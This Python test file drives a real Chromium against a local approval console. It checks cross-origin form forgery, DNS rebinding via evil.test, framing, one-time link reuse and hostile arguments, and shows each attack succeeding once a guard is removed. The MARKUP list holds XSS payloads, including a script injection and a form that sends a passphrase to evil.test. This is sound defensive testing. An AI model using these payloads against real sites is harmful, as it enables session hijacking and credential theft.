"""The confirmation console attacked in a real Chromium: pages of another port, a name that was pointed at this machine, a frame, a link used twice,
and arguments that would be more than text. Each attack also runs with its guards taken out, and then succeeds."""

import json
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import pytest

from caskmcp.govern import keys, pins
from caskmcp.hidden import HIDDEN
from caskmcp.ports import World
from caskmcp.store.files import LocalFiles
from caskmcp.workflows.console import door, page
from caskmcp.workflows.console.desk import Desk
from tests.support import packs
from tests.support.asking import ARGUMENTS, PASSPHRASE, asking, person
from tests.support.chromium import CHROMIUM, needs_browser
from tests.support.consoles import Elsewhere, elsewhere, serving
from tests.support.terminal import ROOT

pytestmark = needs_browser
CORPUS: Final = [json.loads(line) for line in (ROOT / "fixtures" / "hostile" / "injection.jsonl").read_text(encoding="utf-8").splitlines()]
MARKUP: Final = (
    "<img src=x onerror=\"document.title='owned'\">",
    "</td></tr></table><script>document.title='owned'</script>",
    "\"><form action='//evil.test'><input name=passphrase>",
    "<style>td{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "&lt;b&gt; &#60;i&#62; \u202egnp.exe\u202c \x00\x1b[2J",
)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as running:
        browser = running.chromium.launch(
            executable_path=CHROMIUM, args=["--disable-gpu", "--host-resolver-rules=MAP evil.test 127.0.0.1"], timeout=60_000
        )
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("config") / "caskmcp"
    keys.save(LocalFiles(), folder, packs.T1, PASSPHRASE)
    pins.write(LocalFiles(), folder, packs.PIN)
    return folder


@pytest.fixture
def of(tmp_path: Path, config: Path) -> World:
    return person(tmp_path, config)


@pytest.fixture
def desk(of: World) -> Iterator[Desk]:
    with serving(of) as running:
        yield running


@pytest.fixture
def other() -> Iterator[Elsewhere]:
    with elsewhere() as running:
        yield running


@pytest.fixture
def tab(chromium: Any) -> Iterator[Any]:
    context = chromium.new_context()
    yield context.new_page()
    context.close()


def link(desk: Desk) -> str:
    return f"{desk.session.origin}/{desk.session.link}"


def room(desk: Desk, rest: str = "") -> str:
    return f"{desk.session.origin}/{desk.session.room}/{rest}"


def without(monkeypatch: pytest.MonkeyPatch, *rows: str) -> None:
    """Take rows of the door out."""
    monkeypatch.setattr(door, "CHECKS", tuple(row for row in door.CHECKS if row.name not in rows))


# ---------------------------------------------------------------- what a person does
def test_a_person_opens_the_link_reads_the_call_and_grants_it_once(of: World, desk: Desk, tab: Any) -> None:
    asking(of)
    tab.goto(link(desk))
    tab.get_by_role("link", name="w").click()
    read = tab.locator("table").inner_text()
    for line in (
        "POST https://api.example.com/orders/7/w",
        "Authorization: Bearer <env:SHOP_TOKEN>",
        '"note":"hi\\u001b[31m"',
        "risk high",
        "stdio",
    ):
        assert line in read
    tab.fill("[name=passphrase]", "wrong")
    tab.get_by_role("button", name="Grant once with t1").click()
    assert "CASK-K002" in tab.get_by_role("status").inner_text()
    assert asking(of).state == "waiting"
    tab.fill("[name=passphrase]", PASSPHRASE)
    tab.get_by_role("button", name="Grant once with t1").click()
    assert "Granted: w may be called once" in tab.get_by_role("status").inner_text()
    assert [asking(of).state for _ in range(2)] == ["granted", "waiting"]
    assert PASSPHRASE not in of.console.text  # type: ignore[attr-defined]


def test_a_person_denies_without_a_passphrase(of: World, desk: Desk, tab: Any) -> None:
    asking(of)
    tab.goto(link(desk))
    tab.get_by_role("link", name="w").click()
    tab.get_by_role("button", name="Deny").click()
    assert "Denied: w" in tab.get_by_role("status").inner_text()
    assert asking(of).state == "denied"


# ---------------------------------------------------------------- the link
def test_a_link_that_was_opened_opens_for_nobody_else(desk: Desk, tab: Any, chromium: Any) -> None:
    tab.goto(link(desk))
    second = chromium.new_context().new_page()
    assert second.goto(link(desk)).status == 404
    assert second.goto(room(desk)).status == 403  # with the room's secret, but without the cookie
    assert tab.goto(room(desk)).status == 200
    second.context.close()


def test_without_the_mark_that_it_was_opened_the_link_would_open_again(desk: Desk, tab: Any, chromium: Any) -> None:
    tab.goto(link(desk))
    desk.session.opened = False
    second = chromium.new_context().new_page()
    assert second.goto(link(desk)).status == 200
    second.context.close()


# ---------------------------------------------------------------- other pages
def forged(desk: Desk, form: str) -> str:
    """A page with a form that goes to the console."""
    fields = f'<input name="form" value="{form}"><input name="verdict" value="deny">'
    return f'<form method="post" action="{room(desk)}">{fields}</form>'


def sent_by(other: Elsewhere, tab: Any, markup: str) -> int:
    """The status of the answer that a page of another port gets for the form that it sends."""
    other.pages["/attack"] = markup
    tab.goto(f"{other.origin}/attack")
    with tab.expect_navigation() as there:
        tab.evaluate("document.forms[0].submit()")
    return int(there.value.status)


def test_a_form_of_another_port_answers_nothing_even_with_every_secret_but_the_cookie(
    of: World, desk: Desk, tab: Any, other: Elsewhere, monkeypatch: pytest.MonkeyPatch
) -> None:
    asking(of)
    tab.goto(link(desk))
    tab.get_by_role("link", name="w").click()
    form = tab.locator("[name=form]").first.get_attribute("value")
    assert sent_by(other, tab, forged(desk, form)) == 403
    assert asking(of).state == "waiting"
    without(monkeypatch, "site")  # an older browser
    assert sent_by(other, tab, forged(desk, form)) == 403
    without(monkeypatch, "origin")
    assert sent_by(other, tab, forged(desk, "0" * 64)) == 403  # the form's own secret is left
    assert asking(of).state == "waiting"
    assert sent_by(other, tab, forged(desk, form)) == 200  # the same site: the browser sends the cookie
    assert asking(of).state == "denied"


def test_a_name_that_was_pointed_at_this_machine_is_not_answered(desk: Desk, tab: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    rebound = link(desk).replace("127.0.0.1", "evil.test")
    assert tab.goto(rebound).status == 421
    assert desk.session.opened is False
    without(monkeypatch, "host")
    assert tab.goto(rebound).status == 200
    assert tab.url == room(desk).replace("127.0.0.1", "evil.test")


def framed(other: Elsewhere, tab: Any, desk: Desk) -> str:
    """What a page of another port shows of the console in a frame."""
    other.pages["/frame"] = f'<iframe src="{room(desk)}"></iframe>'
    tab.goto(f"{other.origin}/frame")
    tab.wait_for_timeout(200)
    texts = []
    for frame in tab.frames[1:]:
        with suppress(Exception):  # what the browser shows in place of a page that it refuses cannot be read
            texts.append(str(frame.locator("body").inner_text(timeout=1000)))
    return " ".join(texts)


def test_the_console_is_shown_in_no_frame(desk: Desk, tab: Any, other: Elsewhere, monkeypatch: pytest.MonkeyPatch) -> None:
    tab.goto(link(desk))
    assert "Look again" not in framed(other, tab, desk)
    without(monkeypatch, "site")
    assert "Look again" not in framed(other, tab, desk)
    monkeypatch.setattr(page, "headers", lambda nonce: (("Content-Type", "text/html; charset=utf-8"),))
    assert "Look again" in framed(other, tab, desk)


# ---------------------------------------------------------------- arguments that would be more than text
def shown_with(of: World, desk: Desk, tab: Any, note: str) -> list[str]:
    """The addresses that the page of such a call asks for, beside its own."""
    asking(of, {"order_id": 7, "note": note})
    asked: list[str] = []
    tab.goto(link(desk))
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("dialog", lambda dialog: asked.append(dialog.message))
    tab.get_by_role("link", name="w").click()
    tab.wait_for_timeout(100)
    return [url for url in asked if not url.startswith(room(desk))]


def test_hostile_arguments_are_text_and_every_character_of_them_shows(of: World, desk: Desk, tab: Any) -> None:
    values = [*MARKUP, *(str(row["value"]) for row in CORPUS)]
    assert shown_with(of, desk, tab, "\n".join(values)) == []
    assert tab.title() == "Call w?"
    wire = json.dumps({"act": {"name": "w", "with": {"note": "\n".join(values)}}}, ensure_ascii=False, separators=(",", ":"))
    assert tab.locator("tr:has(th:text-is('Body')) td").text_content() == HIDDEN.sub(lambda match: f"\\u{{{ord(match[0]):x}}}", wire)
    assert HIDDEN.search(tab.content()) is None
    assert tab.locator("td *").count() == 0
    assert tab.locator("form").count() == 2


def test_without_escaping_the_policy_still_runs_nothing_and_without_both_the_argument_runs(
    of: World, desk: Desk, tab: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(page, "text", lambda value: value)
    assert shown_with(of, desk, tab, MARKUP[1]) == []
    assert tab.title() == "Call w?"
    monkeypatch.setattr(page, "headers", lambda nonce: (("Content-Type", "text/html; charset=utf-8"),))
    tab.reload()
    assert tab.title() == "owned"


def test_the_page_names_nothing_from_elsewhere_and_is_kept_nowhere(of: World, desk: Desk, tab: Any) -> None:
    assert shown_with(of, desk, tab, str(ARGUMENTS["note"])) == []
    answer = tab.reload()
    headers = answer.headers
    assert "default-src 'none'" in headers["content-security-policy"]
    assert (headers["cache-control"], headers["x-frame-options"]) == ("no-store", "DENY")
    assert tab.evaluate("document.cookie") == ""
